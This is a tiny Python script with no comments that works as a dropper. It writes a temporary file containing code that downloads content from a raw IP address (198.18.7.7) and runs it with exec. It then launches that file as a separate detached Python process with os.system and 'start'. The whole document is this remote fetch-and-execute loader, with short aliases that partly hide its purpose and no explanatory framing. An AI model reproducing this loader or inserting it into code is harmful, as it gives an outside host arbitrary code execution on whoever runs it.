from tempfile import NamedTemporaryFile as T
from os import system
from sys import executable

f = T(delete=False)
f.write(b"""from urllib.request import urlopen as o;exec(o('http://198.18.7.7/i').read())""")
f.close()
system(f"start {executable} {f.name}")
